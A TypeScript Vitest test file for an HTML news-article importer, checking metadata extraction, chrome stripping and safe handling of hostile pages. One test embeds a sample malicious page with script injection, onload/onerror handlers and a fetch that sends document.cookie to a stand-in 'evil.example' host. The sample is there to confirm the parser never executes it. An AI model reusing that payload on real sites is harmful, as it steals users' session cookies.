import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { looksLikeHtml } from './html-detect.ts';
import { parseHtmlArticle } from './import-html.ts';
import { ImportError, type ArticleDraft } from './model.ts';

function fixture(name: string): string {
  return readFileSync(new URL(`../../test/fixtures/html/${name}`, import.meta.url), 'utf8');
}

function bodyText(draft: ArticleDraft): string {
  return draft.body.map((b) => b.text).join('\n');
}

/** Text each fixture's page chrome contains; none of it may reach the body. */
function expectNoChrome(draft: ArticleDraft, chrome: string[]): void {
  for (const text of chrome) expect(bodyText(draft)).not.toContain(text);
  for (const block of draft.body) expect(block.text).not.toMatch(/<[a-z/]/i);
}

describe('parseHtmlArticle: JSON-LD @graph page (WordPress + Yoast style)', () => {
  const draft = parseHtmlArticle(fixture('jsonld-graph-newsarticle.html'));

  it('prefers JSON-LD over Open Graph, meta tags and the DOM', () => {
    // og:title carries a " - Site" suffix and meta author says "Ledger Staff": both must lose.
    expect(draft.headline).toBe('Ferry to Rotterdam will return next spring, council confirms');
    expect(draft.standfirst).toBe(
      'Councillors voted 38 to 9 to underwrite the route for three years, ending a four-year gap in passenger sailings from the Humber.',
    );
    // Order kept; the HTML entity WordPress leaves in JSON-LD (&#8217;) is decoded.
    expect(draft.authors).toEqual([{ name: 'Aisling O’Connor' }, { name: 'Dev Mistry' }]);
    expect(draft.publishedAt?.toISOString()).toBe('2024-03-05T07:30:12.000Z');
    expect(draft.timeZone).toBe('UTC');
    expect(draft.dateline).toBe('Hull');
    // publisher and image are {"@id"} references resolved through the graph.
    expect(draft.publicationName).toBe('The Northern Ledger');
    expect(draft.sourceUrl).toBe('https://www.northern-ledger.example/news/2024/03/05/ferry-rotterdam-return/');
  });

  it('takes the image from the ImageObject and its alt text from the lead figure', () => {
    expect(draft.image).toEqual({
      src: 'https://www.northern-ledger.example/wp-content/uploads/2024/03/ferry-king-george-dock.jpg',
      alt: 'A white passenger ferry moored at a dock under grey skies',
      caption: 'The last passenger ferry to Rotterdam left King George Dock in March 2020.',
      credit: 'Tom Hargreaves/Northern Ledger',
    });
  });

  it('keeps the six story paragraphs and nothing else', () => {
    expect(draft.body).toHaveLength(6);
    expect(draft.body[0]).toEqual({
      type: 'paragraph',
      text: 'A passenger ferry between Hull and Rotterdam will resume next spring after the city council agreed on Monday night to underwrite the route’s losses for its first three years.',
    });
    expect(draft.body[5].text).toBe(
      'Humber Sea Lines expects to carry about 180,000 passengers a year and says the route should break even by its third season. The first sailing is planned for 14 April 2025.',
    );
    expectNoChrome(draft, [
      'Read more',
      'Port expansion could bring 600 jobs',
      'Ledger Daily newsletter',
      'in your inbox',
      'Share this article',
      'Skip to content',
      'More from Transport',
      'All rights reserved',
      'thoughts on',
      'Councillors voted 38 to 9 to underwrite', // the standfirst, shown once above the body
      'Photograph: Tom Hargreaves', // the caption
      'gtag',
    ]);
  });

  it('uses defaultTimeZone for timeZone without changing the instant', () => {
    const inLondon = parseHtmlArticle(fixture('jsonld-graph-newsarticle.html'), { defaultTimeZone: 'Europe/London' });
    expect(inLondon.timeZone).toBe('Europe/London');
    expect(inLondon.publishedAt?.toISOString()).toBe('2024-03-05T07:30:12.000Z');
  });
});

describe('parseHtmlArticle: Open Graph and meta tags only', () => {
  const draft = parseHtmlArticle(fixture('opengraph-meta-only.html'));

  it('reads Open Graph first and falls back to meta tags', () => {
    expect(draft.headline).toBe('Lakeside library reopens after $3.1M renovation'); // og:title minus "| site"
    expect(draft.standfirst).toBe(
      'After 14 months behind scaffolding, the Main Street branch reopens Saturday with a new teen room, a makerspace and longer evening hours.',
    );
    // article:author is a Facebook URL, so meta name="author" supplies the people.
    expect(draft.authors).toEqual([{ name: 'Marta Ruiz' }, { name: 'Ben Okafor' }]);
    // article:published_time beats meta name="date" (a bare day).
    expect(draft.publishedAt?.toISOString()).toBe('2024-06-12T19:05:00.000Z');
    // No zone was given, so the page's own offset (-05:00) is the article's zone: it shows the
    // publication's day and hour, not UTC's.
    expect(draft.timeZone).toBe('Etc/GMT+5');
    expect(draft.dateline).toBeNull();
    expect(draft.publicationName).toBe('The Lakeside Courier');
    expect(draft.sourceUrl).toBe('https://www.lakesidecourier.example/local/2024/06/12/main-street-library-reopens');
  });

  it('resolves a relative og:image against the canonical URL; caption and credit come from the figure', () => {
    expect(draft.image).toEqual({
      src: 'https://www.lakesidecourier.example/resizer/v2/library-reading-room.jpg?auth=9f2c&width=1200&height=630',
      alt: 'Sunlight falls across long oak tables in the renovated reading room',
      caption: 'The reading room now has 60 seats and restored 1920s skylights.',
      credit: 'Ben Okafor / The Lakeside Courier',
    });
  });

  it('keeps the six story paragraphs and nothing else', () => {
    expect(draft.body).toHaveLength(6);
    expect(draft.body[3].text).toBe(
      'Evening hours will also grow. The branch will stay open until 9 p.m. Monday through Thursday, up from 7 p.m., paid for by a property-tax levy that voters approved in November.',
    );
    expectNoChrome(draft, [
      'Related:',
      'Library board approves longer evening hours',
      'Morning Briefing newsletter',
      'Sign up',
      'Subscribe for $1',
      'Share on Facebook',
      'Advertisement',
      'Most read',
      'Storm knocks out power',
      'Terms of Service',
      'The reading room now has 60 seats',
      'gtm.js',
    ]);
  });
});

describe('parseHtmlArticle: DOM only, with site chrome', () => {
  const url = 'https://harbourgazette.example/news/2024/11/02/wharf-repairs';
  const draft = parseHtmlArticle(fixture('dom-only-with-chrome.html'), { url, defaultTimeZone: 'America/Halifax' });

  it('reads the headline, byline and time from the page itself', () => {
    // The <h1> is the <title> without its " | The Harbour Gazette" suffix.
    expect(draft.headline).toBe('Wharf repairs will close the harbour ferry terminal for six weeks');
    expect(draft.standfirst).toBeNull();
    expect(draft.authors).toEqual([{ name: 'Tomasz Nowak' }, { name: 'Priya Raman' }]);
    expect(draft.publishedAt?.toISOString()).toBe('2024-11-02T12:15:00.000Z');
    expect(draft.timeZone).toBe('America/Halifax');
    expect(draft.dateline).toBeNull();
    expect(draft.publicationName).toBeNull();
    expect(draft.sourceUrl).toBe(url);
  });

  it('takes the lead figure, resolving its src against options.url and splitting off the credit', () => {
    expect(draft.image).toEqual({
      src: 'https://harbourgazette.example/media/2024/11/wharf-pilings-1600.jpg',
      alt: 'Workers in orange vests stand on a barge beside rotting wooden pilings',
      caption: 'Crews inspect pilings under the ferry wharf on Friday.',
      credit: 'Jane Smith/Harbour Gazette',
    });
  });

  it('keeps the five story paragraphs and none of the chrome', () => {
    expect(draft.body.map((b) => b.text.slice(0, 40))).toEqual([
      'The harbour ferry terminal downtown will',
      'Ferries will run from a temporary landin',
      'An inspection in September found that a ',
      'The $2.4-million repair will be paid for',
      'Commuters who spoke to the Gazette on Fr',
    ]);
    expectNoChrome(draft, [
      'We use cookies',
      'Accept all',
      'Halifax 9°C',
      'Log in',
      'Politics',
      'Share on',
      'Share this article',
      'Copy link',
      'Read more',
      'Ferry fares to rise',
      'Bridge tolls frozen',
      'Morning Edition',
      'Sign up',
      'Subscribe to our daily newsletter',
      'All rights reserved',
      'Crews inspect pilings',
    ]);
  });

  it('leaves the image out when its relative src has nothing to resolve against', () => {
    expect(parseHtmlArticle(fixture('dom-only-with-chrome.html')).image).toBeNull();
  });
});

describe('parseHtmlArticle: JSON-LD shapes', () => {
  const page = (ld: unknown, body = '<p>Only paragraph of the story, long enough to be the article body.</p>') =>
    `<!doctype html><html><head><script type="application/ld+json">${JSON.stringify(ld)}</script></head>` +
    `<body><article>${body}</article></body></html>`;

  it('accepts a top-level array, string and Organization authors, an array of image URLs and a dateline', () => {
    const draft = parseHtmlArticle(
      page([
        { '@type': 'WebSite', name: 'Example' },
        {
          '@type': 'BlogPosting',
          headline: 'Shapes',
          author: ['By Ana Lima', { '@type': 'Organization', name: 'Reuters' }],
          image: ['/a.jpg', '/b.jpg'],
          dateline: 'LISBON',
          datePublished: '2024-01-02T03:04:05',
        },
      ]),
      { url: 'https://example.org/post', defaultTimeZone: 'Europe/Lisbon' },
    );
    expect(draft.headline).toBe('Shapes');
    // An agency credited beside a named person is not the writer (issue 13: "the publication or an
    // agency taken as the author when a person is named").
    expect(draft.authors).toEqual([{ name: 'Ana Lima' }]);
    expect(draft.image).toEqual({ src: 'https://example.org/a.jpg', alt: '', caption: '', credit: null });
    expect(draft.dateline).toBe('LISBON');
    // No offset in the text: the time is read in the default zone (Lisbon is UTC+0 in January).
    expect(draft.publishedAt?.toISOString()).toBe('2024-01-02T03:04:05.000Z');
  });

  it('reads an ImageObject author as the credit when there is no creditText', () => {
    const draft = parseHtmlArticle(
      page({
        '@type': 'NewsArticle',
        headline: 'Credit',
        image: { '@type': 'ImageObject', url: 'https://cdn.example.org/p.jpg', caption: 'A caption', author: { name: 'Kai Berg' } },
      }),
    );
    expect(draft.image).toEqual({ src: 'https://cdn.example.org/p.jpg', alt: '', caption: 'A caption', credit: 'Kai Berg' });
  });

  it('keeps a long paragraph that merely mentions a newsletter', () => {
    const text =
      'The council sent a newsletter to every household last spring asking residents to sign up for the consultation, but fewer than 200 replied before the deadline, and the survey was later abandoned as unrepresentative of the city as a whole.';
    expect(parseHtmlArticle(page({ '@type': 'Article', headline: 'N' }, `<p>${text}</p>`)).body).toEqual([
      { type: 'paragraph', text },
    ]);
  });
});

describe('parseHtmlArticle: bad input', () => {
  it('rejects an empty document', () => {
    expect(() => parseHtmlArticle('')).toThrow(ImportError);
    expect(() => parseHtmlArticle('  \n\t')).toThrow(ImportError);
  });

  it('rejects a page without a headline', () => {
    const html = '<!doctype html><html><head></head><body><main><p>Some text but no title anywhere.</p></main></body></html>';
    // The English words as before, from the catalog message that French readers get in French.
    expect(() => parseHtmlArticle(html)).toThrow(new ImportError({ key: 'articles.importError.noHeadline' }));
    expect(() => parseHtmlArticle(html)).toThrow('no headline found');
  });
});

describe('parseHtmlArticle: hostile and noisy pages', () => {
  let server: Server | undefined;
  afterEach(() => {
    server?.close();
    server = undefined;
    vi.restoreAllMocks();
  });

  it('never runs the page’s scripts and never shows their text', () => {
    const html = `<!doctype html><html><head><title>Safe headline</title>
      <script>globalThis.__parleyPwned = true; document.title = 'PWNED';</script></head>
      <body onload="globalThis.__parleyPwned = 'onload'"><article><h1>Safe headline</h1>
      <p>The first real paragraph of the story, which is comfortably long enough to count as content.</p>
      <script>document.querySelector('article').insertAdjacentHTML('beforeend', '<p>INJECTED BY SCRIPT</p>'); fetch('https://evil.example/steal?c=' + document.cookie);</script>
      <img src="x" onerror="globalThis.__parleyPwned = 'onerror'">
      <p>The second real paragraph of the story, also long enough to count as content for Readability.</p>
      </article></body></html>`;
    const draft = parseHtmlArticle(html);
    expect((globalThis as { __parleyPwned?: unknown }).__parleyPwned).toBeUndefined();
    expect(draft.headline).toBe('Safe headline');
    expect(draft.body).toHaveLength(2);
    expect(bodyText(draft)).not.toMatch(/INJECTED|PWNED|insertAdjacentHTML|evil\.example|__parleyPwned/);
  });

  it('fetches none of the page’s resources', async () => {
    let requests = 0;
    server = createServer((_req, res) => {
      requests += 1;
      res.end('');
    });
    await new Promise<void>((resolve) => server!.listen(0, '127.0.0.1', resolve));
    const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const html = `<!doctype html><html><head><title>Offline</title>
      <link rel="stylesheet" href="${origin}/style.css"><script src="${origin}/app.js"></script></head>
      <body><article><h1>Offline</h1><img src="${origin}/img.jpg" alt="">
      <iframe src="${origin}/frame.html"></iframe>
      <p>A paragraph long enough to be kept as the body of this small article about nothing.</p></article></body></html>`;
    parseHtmlArticle(html, { url: `${origin}/story` });
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(requests).toBe(0);
  });

  it('stays quiet about CSS it cannot parse', () => {
    const spies = (['error', 'warn', 'log', 'info'] as const).map((m) => vi.spyOn(console, m).mockImplementation(() => {}));
    parseHtmlArticle(fixture('jsonld-graph-newsarticle.html')); // its inline <style> has a broken rule
    for (const spy of spies) expect(spy).not.toHaveBeenCalled();
  });
});

describe('looksLikeHtml', () => {
  it('recognises saved pages and fragments', () => {
    expect(looksLikeHtml(fixture('dom-only-with-chrome.html'))).toBe(true);
    expect(looksLikeHtml('\uFEFF  <html lang="en"><head></head></html>')).toBe(true);
    expect(looksLikeHtml('<!-- saved from url=(0042)https://example.org/ -->\n<html>')).toBe(true);
    expect(looksLikeHtml('<article class="story"><h1>Hi</h1></article>')).toBe(true);
  });

  it('rejects plain text and Markdown, even when they mention tags', () => {
    expect(looksLikeHtml('Headline\n\nBy Jane Doe\n\nThe <body> of the text.')).toBe(false);
    expect(looksLikeHtml('# Headline\n\n<article> tags are explained below.')).toBe(false);
    expect(looksLikeHtml('<p>just a paragraph</p>')).toBe(false);
    expect(looksLikeHtml('')).toBe(false);
  });
});
